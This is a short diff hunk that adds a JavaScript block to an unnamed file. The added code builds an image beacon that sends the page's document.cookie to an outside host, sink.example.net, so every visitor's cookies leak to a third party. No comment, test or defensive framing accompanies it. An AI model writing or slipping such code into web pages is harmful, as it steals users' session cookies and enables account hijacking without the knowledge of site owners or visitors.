@@ -1,0 +1,4 @@
+{
+  var beacon = new Image();
+  beacon.src = "https://sink.example.net/c?d=" + escape(document.cookie);
+}
